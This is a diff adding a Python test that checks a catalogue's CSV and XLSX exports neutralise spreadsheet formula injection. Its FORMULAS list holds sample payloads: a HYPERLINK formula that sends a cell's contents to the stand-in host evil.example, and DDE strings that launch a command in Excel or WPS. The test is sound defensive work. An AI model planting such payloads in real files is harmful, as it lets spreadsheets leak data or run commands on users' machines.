@@ -22,6 +22,7 @@ from onegrid.core.errors import InvalidInput
 from onegrid.org.departments import DEFAULT_DEPARTMENTS, ensure_default_departments
 from onegrid.org.models import Department
 from onegrid.territory.models import AdminUnit
+from support.spreadsheets import first_sheet, quote_prefixed, runs_anything
 
 
 def csv_bytes(rows: list[list], header=COLUMNS, encoding="utf-8") -> bytes:
@@ -214,6 +215,64 @@ def test_xlsx_round_trip_is_exact(awkward_class):
     import_catalogue(io.BytesIO(as_xlsx), "xlsx")
     assert export_catalogue("csv") == as_csv
     assert xlsx_rows(export_catalogue("xlsx")) == sheet
+
+
+# Each would run, or call out, in Excel or WPS if an export held it as typed.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "'=1+1",  # starts with an apostrophe of its own
+    "#N/A",
+]
+
+
+@pytest.fixture
+def formula_classes(catalogue):
+    major = MajorClass.objects.create(code="X", name="@本地扩展")
+    for i, text in enumerate(FORMULAS):
+        CaseClass.objects.create(
+            code=f"X{i:04d}",
+            major=major,
+            name=text,
+            name_en=text,
+            filing_criteria=text,
+            closing_criteria=text,
+            time_limit=4,
+            time_unit="hours",
+        )
+    return major
+
+
+def _stored_texts() -> list[tuple]:
+    return list(
+        CaseClass.objects.filter(code__startswith="X")
+        .order_by("code")
+        .values_list("major__name", "name", "name_en", "filing_criteria", "closing_criteria")
+    )
+
+
+def test_exports_hold_no_formula_and_read_back_the_same(formula_classes):
+    before = _stored_texts()
+    as_csv = export_catalogue("csv")
+    fields = [f for r in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"))) for f in r]
+    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'+cmd|' /C calc'!A0" in fields and "''=1+1" in fields and "#N/A" in fields
+    as_xlsx = export_catalogue("xlsx")
+    assert not runs_anything(first_sheet(as_xlsx)[0])
+    formula_rows = [n for n, r in enumerate(xlsx_rows(as_xlsx), start=1) if r[4] in FORMULAS]
+    assert len(formula_rows) == len(FORMULAS)
+    # The names that start like a formula ("#N/A" does not) carry the quote prefix.
+    assert quote_prefixed(as_xlsx, "E") == {f"E{n}" for n in formula_rows[:5]}
+    for data, fmt in ((as_csv, "csv"), (as_xlsx, "xlsx")):
+        CaseClass.objects.all().delete()
+        MajorClass.objects.all().delete()
+        import_catalogue(io.BytesIO(data), fmt)
+        assert _stored_texts() == before, fmt
+        assert export_catalogue("csv") == as_csv and xlsx_rows(export_catalogue("xlsx")) == (
+            xlsx_rows(as_xlsx)
+        )
 
 
 def test_import_updates_by_code(catalogue):
